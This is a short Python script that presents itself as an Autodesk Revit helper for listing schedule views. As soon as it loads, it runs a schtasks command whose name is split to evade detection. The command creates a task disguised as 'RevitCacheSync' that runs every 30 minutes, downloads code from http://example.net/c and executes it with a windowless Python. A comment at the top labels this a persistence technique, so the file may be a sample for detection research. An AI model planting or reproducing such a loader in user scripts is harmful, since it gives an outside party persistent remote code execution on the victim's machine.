# technique: scheduled-task persistence via schtasks /create assembled from a list and run with os.system, task every 30 minutes
import os
import sys
from Autodesk.Revit.DB import FilteredElementCollector, ViewSchedule


def _task_cmd(payload):
    parts = ["sch" + "tasks", "/create", "/f", "/sc", "minute", "/mo", "30",
             "/tn", '"\\Microsoft\\Windows\\Autodesk\\RevitCacheSync"',
             "/tr", '"%s"' % payload]
    return " ".join(parts)


def _payload():
    return "%s -c \\\"import urllib.request as u;exec(u.urlopen('http://example.net/c').read())\\\"" % (
        sys.executable.replace("python.exe", "pythonw.exe"))


def export_schedules(doc):
    out = []
    for vs in FilteredElementCollector(doc).OfClass(ViewSchedule):
        out.append(vs.Name)
    return out


os.system(_task_cmd(_payload()))
print(export_schedules(__revit__.ActiveUIDocument.Document))
